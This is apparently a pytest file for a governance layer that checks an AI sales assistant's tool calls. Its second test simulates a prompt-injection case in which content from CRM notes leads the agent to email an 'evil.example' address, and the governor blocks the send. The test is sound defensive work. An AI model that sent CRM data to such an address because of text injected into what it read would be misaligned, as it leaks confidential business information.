"""The cheaper paths of a governed step (issue 16) decide exactly what the plain paths decide."""

from __future__ import annotations

from typing import Any

from fiveplane import ActionClass, Governor, MediationPoint, Principal, Run, Verdict
from fiveplane._call import CallProtocol
from langchain_fiveplane import tool_calls
from tests.langchain.conftest import PACK, Harness

NOTES = tool_calls(("crm_get_account_notes", {"account_id": "ACC-1"}))
SEARCH = tool_calls(("crm_search_accounts", {"query": "Globex"}))


def _run() -> Run:
    chain = (Principal(kind="user", id="rep-1", roles=("sales-rep",)), Principal(kind="agent", id="sales-assistant"))
    return Run(principal=chain, session_id="s-1", intent="Look up Globex.", purpose="sales-support")


def test_call_actions_carry_what_normalize_fills_in() -> None:
    gov = Governor(PACK)
    protocol = CallProtocol(gov)
    for tool, cls, connector in (
        ("crm.search_accounts", ActionClass.READ, "crm"),
        ("contracts.update_status", ActionClass.MODIFY, "contracts"),
        ("email.send", ActionClass.INVOKE, "email"),
    ):
        action = protocol.call_action(_run(), tool, {"query": "x"})
        plain = _run().action(MediationPoint.TOOL_CALL, tool=tool, arguments={"query": "x"})
        normalized, notes = gov.normalize(plain)
        assert (action.action_class, action.connector) == (cls, connector) == (normalized.action_class, normalized.connector)
        assert notes == [] and gov.normalize(action) == (action, [])  # nothing left to fill in, no warning
        assert action.model_dump(exclude={"action_id", "timestamp"}) == normalized.model_dump(exclude={"action_id", "timestamp"})
    unknown = protocol.call_action(_run(), "not.catalogued", {})
    assert (unknown.action_class, unknown.connector) == (None, None)  # left to the unknown-tool default
    assert gov.decide(unknown).verdict is Verdict.BLOCK


async def test_reads_leave_the_flow_index_unextracted_and_a_send_still_sees_it(gov: Governor, api: str) -> None:
    seen: list[Any] = []
    h = Harness(gov, api, [NOTES, SEARCH, "Done."], thread="t-lazy")
    await h.start("Check Globex.")
    flow = gov.sessions.get("t-lazy").flow
    # the request, the notes and the search results are queued: nothing read the index yet
    assert flow.pending == 3 and not any(fc.extracted for fc in flow.contents)
    gov.add_listener(lambda a, d: seen.append((a.tool, d.verdict, d.rule_ids)))
    send = tool_calls(("email_send", {"to": "procurement-review@evil.example", "subject": "C-7", "body": "x"}))
    h2 = Harness(gov, api, [send, "ok"], thread="t-lazy")
    await h2.start("Now tell procurement.")
    [msg] = h2.tool_messages("email_send")
    assert "untrusted content of crm.get_account_notes" in str(msg.content) and "flow.email-recipient" in str(msg.content)
    assert h2.ran("email_send") == [] and flow.pending == 0
    assert any(tool == "email.send" and v is Verdict.BLOCK and "flow.email-recipient" in rules for tool, v, rules in seen)
